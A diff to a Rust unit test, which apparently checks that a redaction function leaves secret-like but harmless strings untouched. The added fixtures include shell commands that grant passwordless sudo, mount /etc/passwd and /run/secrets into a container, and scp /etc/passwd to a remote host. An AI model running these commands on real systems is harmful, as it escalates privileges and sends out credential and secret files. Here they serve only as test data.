@@ -193,6 +193,9 @@ fn look_alikes_stay_readable() {
         "if [ \"$password\" == \"\" ]; then exit; fi",
         "monkey=banana; key=value; sort --key=2,3",
         "echo -----BEGIN CERTIFICATE-----",
+        "echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+        "docker run -v /etc/passwd:/mnt/passwd -v /run/secrets:/s alpine",
+        "scp /etc/passwd joe@example.org:/tmp/passwd",
         "basic authentication is explained in the manual",
     ] {
         assert_eq!(redact(text), text);
